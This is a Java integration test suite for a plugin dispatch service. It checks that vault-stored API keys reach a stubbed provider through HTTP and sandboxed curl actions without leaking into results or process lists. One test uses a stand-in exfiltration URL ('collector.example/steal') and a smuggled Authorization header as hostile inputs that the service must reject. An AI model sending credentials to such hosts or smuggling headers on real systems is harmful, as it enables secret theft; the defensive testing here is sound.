package dev.polymux.dispatch.toolcall;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;

import dev.polymux.common.event.EventTopics;
import dev.polymux.dispatch.support.AuthorizationServer;
import dev.polymux.dispatch.support.OAuthChild;
import dev.polymux.dispatch.support.Platform;
import dev.polymux.dispatch.support.ProviderStub;
import dev.polymux.dispatch.support.ToolCalls;
import dev.polymux.testing.kafka.KafkaBrokerResource;
import dev.polymux.testing.kafka.KafkaEvents;
import dev.polymux.testing.security.TestTokens;
import dev.polymux.testing.service.RegistryServiceChild;
import dev.polymux.testing.service.VaultServiceChild;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;

/**
 * The headline path, end to end: a plugin whose manifest holds only the {@code stripe_restricted_key} vault entry (no
 * connector, no code), installed, its key pasted into vault-service, then a tool-call event on the real broker for
 * {@code polymux.http_request} or {@code polymux.command} (real curl): the provider stub sees the injected key, one
 * result comes out, and the key is in neither the result nor the process list.
 */
@QuarkusTest
@WithTestResource(KafkaBrokerResource.class)
@WithTestResource(value = TestTokens.class, initArgs = @ResourceArg(name = TestTokens.SERVICE_NAME, value = "dispatch-service"))
@WithTestResource(AuthorizationServer.class)
@WithTestResource(ProviderStub.class)
@WithTestResource(RegistryServiceChild.class)
@WithTestResource(VaultServiceChild.class)
@WithTestResource(OAuthChild.class)
class BuiltinActionsTest {

    private static final String PLUGIN = "stripe-no-code";
    private static final String OAUTH_PLUGIN = "oauth-proxy";

    @BeforeEach
    void platform() {
        String host = ProviderStub.url("").replaceFirst("^http://", "");
        Platform.plugin(PLUGIN, """
                {"id":"%s","version":"1.0.0","label":"Stripe with no code","connections":[
                  {"kind":"vault","key":"stripe_restricted_key","label":"Stripe restricted key",
                   "help":"Use a restricted key with `write:checkout-sessions`.","required":true,
                   "shape":{"kind":"single","field":"value","secret":true},
                   "request":{"baseUrl":"%s","allowedHosts":["%s"],"credential":[{"placement":"bearer"}]},
                   "command":{"executable":"curl","args":["-sS","--fail-with-body","-H","@-","%s/v1/{resource}"],
                              "stdin":"Authorization: Bearer {value}"}},
                  {"kind":"vault","key":"bare_key","label":"A key with no actions","shape":{"kind":"single"}}]}"""
                .formatted(PLUGIN, ProviderStub.url(""), host, ProviderStub.url("")));
        Platform.connector("acme-proxy", """
                {"id":"acme-proxy","version":"1.0.0","label":"Acme proxy","kind":"oauth",
                 "auth":{"grantType":"client_credentials","tokenUrl":"%s","scopes":["read"],"defaultScopes":["read"],
                         "request":{"baseUrl":"%s"}},
                 "tools":[{"name":"whoami","description":"Who the token belongs to.","input":{"type":"object"},
                   "http":{"method":"GET","url":"%s/oauth/me","credential":{"placement":"bearer"},"successCodes":[200]}}],
                 "allowedHosts":["%s"]}""".formatted(AuthorizationServer.tokenUrl(), ProviderStub.url(""), ProviderStub.url(""), host));
        Platform.plugin(OAUTH_PLUGIN, """
                {"id":"%s","version":"1.0.0","label":"OAuth proxy","connections":[
                  {"kind":"oauth","key":"acme","label":"Acme account","connector":"acme-proxy","scopes":["read"]}]}"""
                .formatted(OAUTH_PLUGIN));
    }

    @Test
    void aWorkflowUsesAVaultEntryWithNoConnectorCodeThroughTheHttpRequestAction() {
        String tenant = tenant();
        String key = "rk_test_" + UUID.randomUUID().toString().replace("-", "");
        String id = Platform.install(tenant, PLUGIN).get("stripe_restricted_key");
        Platform.storeCredentials(tenant, id, "{\"value\":\"" + key + "\"}");
        ProviderStub.server().stubFor(get(urlEqualTo("/v1/charges?limit=3")).withHeader("Authorization", equalTo("Bearer " + key))
                .willReturn(aResponse().withStatus(200).withHeader("Content-Type", "application/json")
                        .withBody("{\"object\":\"list\",\"data\":[],\"echo\":\"Bearer " + key + "\"}")));

        JsonNode result = call(tenant, PLUGIN, "stripe_restricted_key", "polymux.http_request",
                "{\"method\":\"GET\",\"path\":\"/v1/charges\",\"query\":{\"limit\":3}}");

        assertEquals("succeeded", result.path("data").path("status").asText(), result.toString());
        JsonNode output = result.path("data").path("output");
        assertEquals(200, output.path("status").asInt());
        assertEquals("list", output.path("body").path("object").asText());
        assertEquals("Bearer [redacted]", output.path("body").path("echo").asText(), "an echoed key never reaches the result");
        assertFalse(result.toString().contains(key));
        ProviderStub.server().verify(1, getRequestedFor(urlEqualTo("/v1/charges?limit=3")).withHeader("Authorization", equalTo("Bearer " + key)));
    }

    @Test
    void aRequestOutsideTheEntrysHostsIsABadArgumentAndSendsNothing() {
        String tenant = tenant();
        java.util.Map<String, String> ids = Platform.install(tenant, PLUGIN);
        Platform.storeCredentials(tenant, ids.get("stripe_restricted_key"), "{\"value\":\"rk_test_elsewhere\"}");
        Platform.storeCredentials(tenant, ids.get("bare_key"), "{\"value\":\"a-bare-key\"}");
        int before = ProviderStub.server().findAll(anyRequestedFor(urlPathMatching("/.*"))).size();

        JsonNode elsewhere = call(tenant, PLUGIN, "stripe_restricted_key", "polymux.http_request",
                "{\"method\":\"GET\",\"url\":\"https://collector.example/steal\"}");
        JsonNode smuggled = call(tenant, PLUGIN, "stripe_restricted_key", "polymux.http_request",
                "{\"method\":\"GET\",\"path\":\"/v1/x\",\"headers\":{\"Authorization\":\"Bearer mine\"}}");
        JsonNode noActions = call(tenant, PLUGIN, "bare_key", "polymux.http_request", "{\"method\":\"GET\",\"path\":\"/\"}");

        assertEquals("BAD_ARGUMENTS", elsewhere.path("data").path("error").path("code").asText(), elsewhere.toString());
        assertEquals("BAD_ARGUMENTS", smuggled.path("data").path("error").path("code").asText(), smuggled.toString());
        assertEquals("UNKNOWN_TOOL", noActions.path("data").path("error").path("code").asText(), noActions.toString());
        assertTrue(noActions.path("data").path("error").path("message").asText().contains("declares no request block"), noActions.toString());
        assertEquals(before, ProviderStub.server().findAll(anyRequestedFor(urlPathMatching("/.*"))).size(), "the provider saw nothing");
    }

    @Test
    void anOAuthConnectionsAccessTokenGoesAsABearerThroughTheSameAction() {
        String tenant = tenant();
        String id = Platform.install(tenant, OAUTH_PLUGIN).get("acme");
        Platform.connect(tenant, id);
        ProviderStub.server().stubFor(get(urlEqualTo("/oauth/files?tenant=" + tenant)).willReturn(aResponse().withStatus(200).withBody("[]")));

        JsonNode result = call(tenant, OAUTH_PLUGIN, "acme", "polymux.http_request",
                "{\"method\":\"GET\",\"path\":\"/oauth/files\",\"query\":{\"tenant\":\"" + tenant + "\"}}");

        assertEquals("succeeded", result.path("data").path("status").asText(), result.toString());
        String authorization = ProviderStub.server().findAll(getRequestedFor(urlEqualTo("/oauth/files?tenant=" + tenant))).get(0).getHeader("Authorization");
        assertTrue(authorization.startsWith("Bearer ") && authorization.length() > 20, authorization);
    }

    @Test
    void theCommandActionRunsCurlWithTheKeyOnItsStandardInputNeverInItsArguments() throws Exception {
        String tenant = tenant();
        String key = "rk_test_" + UUID.randomUUID().toString().replace("-", "");
        String id = Platform.install(tenant, PLUGIN).get("stripe_restricted_key");
        Platform.storeCredentials(tenant, id, "{\"value\":\"" + key + "\"}");
        String resource = "balance-" + tenant;
        // Slow enough for the process list to be read while curl runs.
        ProviderStub.server().stubFor(get(urlEqualTo("/v1/" + resource)).withHeader("Authorization", equalTo("Bearer " + key))
                .willReturn(aResponse().withStatus(200).withFixedDelay(2_000).withHeader("Content-Type", "application/json")
                        .withBody("{\"object\":\"balance\",\"available\":[{\"amount\":42}]}")));

        CompletableFuture<List<String>> commandLines = CompletableFuture.supplyAsync(() -> commandLinesWhile(resource));
        JsonNode result = call(tenant, PLUGIN, "stripe_restricted_key", "polymux.command", "{\"resource\":\"" + resource + "\"}");

        assertEquals("succeeded", result.path("data").path("status").asText(), result.toString());
        JsonNode output = result.path("data").path("output");
        assertEquals(0, output.path("exitCode").asInt());
        assertEquals(42, output.path("stdout").path("available").get(0).path("amount").asInt(), output.toString());
        List<String> seen = commandLines.get();
        assertFalse(seen.isEmpty(), "curl was seen running");
        assertTrue(seen.stream().noneMatch(line -> line.contains(key)), "the key is in no command line: " + seen);
        assertTrue(seen.stream().anyMatch(line -> line.startsWith("/usr/bin/curl")), "curl itself ran: " + seen);
        assertTrue(seen.stream().anyMatch(line -> line.startsWith("/usr/bin/bwrap")), "inside its sandbox: " + seen);
    }

    @Test
    void aFailingCommandIsAFailedResultWithItsStatus() {
        String tenant = tenant();
        String id = Platform.install(tenant, PLUGIN).get("stripe_restricted_key");
        Platform.storeCredentials(tenant, id, "{\"value\":\"rk_test_refused\"}");
        ProviderStub.server().stubFor(get(urlEqualTo("/v1/denied-" + tenant)).willReturn(aResponse().withStatus(403).withBody("no")));

        JsonNode result = call(tenant, PLUGIN, "stripe_restricted_key", "polymux.command", "{\"resource\":\"denied-" + tenant + "\"}");

        assertEquals("failed", result.path("data").path("status").asText(), result.toString());
        assertTrue(result.path("data").path("error").path("message").asText().contains("exited with status 22"), result.toString());
    }

    /** The command lines (from /proc) of processes that mention the resource, read until one was seen or 10 s passed. */
    private static List<String> commandLinesWhile(String resource) {
        // Until curl itself is seen: the sandbox (bwrap) starts first and execs curl a moment later.
        long until = System.nanoTime() + 10_000_000_000L;
        java.util.Set<String> seen = new java.util.LinkedHashSet<>();
        while (System.nanoTime() < until) {
            commandLines().stream().filter(line -> line.contains(resource)).forEach(seen::add);
            if (seen.stream().anyMatch(line -> line.startsWith("/usr/bin/curl"))) {
                return List.copyOf(seen);
            }
            try {
                Thread.sleep(20);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                return List.copyOf(seen);
            }
        }
        return List.copyOf(seen);
    }

    private static List<String> commandLines() {
        try (Stream<Path> processes = Files.list(Path.of("/proc"))) {
            return processes.filter(path -> path.getFileName().toString().chars().allMatch(Character::isDigit)).map(path -> {
                try {
                    return new String(Files.readAllBytes(path.resolve("cmdline")), StandardCharsets.UTF_8).replace('\0', ' ');
                } catch (IOException gone) {
                    return "";
                }
            }).toList();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String tenant() {
        return "t-" + UUID.randomUUID().toString().substring(0, 8);
    }

    private static JsonNode call(String tenant, String plugin, String connection, String tool, String arguments) {
        String callId = "call-" + UUID.randomUUID();
        try (KafkaEvents results = KafkaEvents.watch(EventTopics.TOOL_RESULTS); ToolCalls calls = new ToolCalls()) {
            calls.publish(ToolCalls.event(callId, tenant, plugin, connection, tool, arguments, Instant.now().plusSeconds(30)));
            calls.flush();
            JsonNode result = results.awaitCloudEvent(json -> callId.equals(json.path("data").path("callId").asText()));
            return result;
        }
    }
}
